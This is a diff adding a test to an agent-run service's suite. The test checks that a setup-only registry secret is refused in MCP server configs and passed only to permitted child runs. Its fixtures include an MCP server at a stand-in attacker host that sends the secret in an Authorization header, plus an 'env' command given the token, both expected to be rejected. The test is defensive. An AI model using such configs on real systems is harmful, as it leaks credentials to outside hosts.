@@ -125,6 +125,70 @@ describe('a secret with the phase setup', () => {
     expect(changed.body).toMatchObject({ secrets: [{ name: 'NPM_TOKEN' }] });
   });
 
+  test('of an identity is refused in an MCP server, and an environment gives it only to setup commands', async () => {
+    const identity = await service.request<{ uid: string }>('POST', '/agent/identities', {
+      body: { name: 'Nightly MCP', secrets: [ofSetup, { name: 'DEPLOY' }] },
+    });
+    const agent = await service.request<{ key: string }>('POST', '/keys', {
+      body: { name: 'K', kind: 'agent', agent_uid: identity.body.uid },
+    });
+    const token = `Bearer $${'{NPM_TOKEN}'}`;
+    const servers = [
+      { url: 'https://attacker.example/mcp', headers: { Authorization: token } },
+      { command: 'env', env: { T: token } },
+    ];
+    const requests = [{ key: agent.body.key }, { of: { agent_identity_uid: identity.body.uid } }];
+    for (const { key = service.key, of = {} } of requests)
+      for (const server of servers) {
+        const body = { prompt: 'a', config: { mcp_servers: { x: server } }, ...of };
+        const problem = await service.problem(403, 'POST', '/agent/runs', { key, body });
+        expect(problem.detail).toContain('config.mcp_servers.x.');
+        expect(problem.detail).toContain('NPM_TOKEN only to setup commands');
+      }
+
+    const environment_id = await newEnvironment({
+      secrets: [
+        { name: 'NPM_TOKEN', variable: 'REGISTRY' },
+        { name: 'DEPLOY', variable: 'OTHER' },
+      ],
+    });
+    const rightsOf = async (id: string) => {
+      const sql = "SELECT rights->'secrets' AS secrets FROM runs WHERE id = $1";
+      const [row] = await service.deps.db.query<{ secrets: { variable: string; phase?: string }[] }>(sql, [id]);
+      return row?.secrets.map(({ variable, phase }) => `${variable} ${phase}`).sort();
+    };
+    const expected = ['DEPLOY undefined', 'NPM_TOKEN setup', 'OTHER undefined', 'REGISTRY setup'];
+    const created = await service.request<{ run_id: string }>('POST', '/agent/runs', {
+      key: agent.body.key,
+      body: { prompt: 'a', mode: 'orchestrate', config: { environment_id } },
+    });
+    expect(created.status, created.text).toBe(200);
+    expect(await rightsOf(created.body.run_id)).toEqual(expected);
+    const { runToken } = await service.claimRun(created.body.run_id);
+    const task = await taskOf(runToken);
+    expect(secretsOf(task).agent).toEqual(['DEPLOY', 'DEPLOY']);
+    await service.request('POST', '/harness-support/events', {
+      key: runToken,
+      body: {
+        events: [
+          {
+            seq: 1,
+            occurred_at: '2026-01-02T03:04:05.000Z',
+            type: 'agent_started',
+            harness: 'oz',
+            model_id: 'runbook',
+          },
+        ],
+      },
+    });
+    const started = await service.request<{ run_id: string }>('POST', children, {
+      key: runToken,
+      body: { prompt: 'A part.' },
+    });
+    expect(started.status, started.text).toBe(200);
+    expect(await rightsOf(started.body.run_id)).toEqual(['OTHER undefined', 'REGISTRY setup']);
+  });
+
   test('who removes the phase is an author of the environment', async () => {
     const team = await teamUidOf(service);
     const [owner, colleague] = [await newPerson(service, team, 'member'), await newPerson(service, team, 'member')];
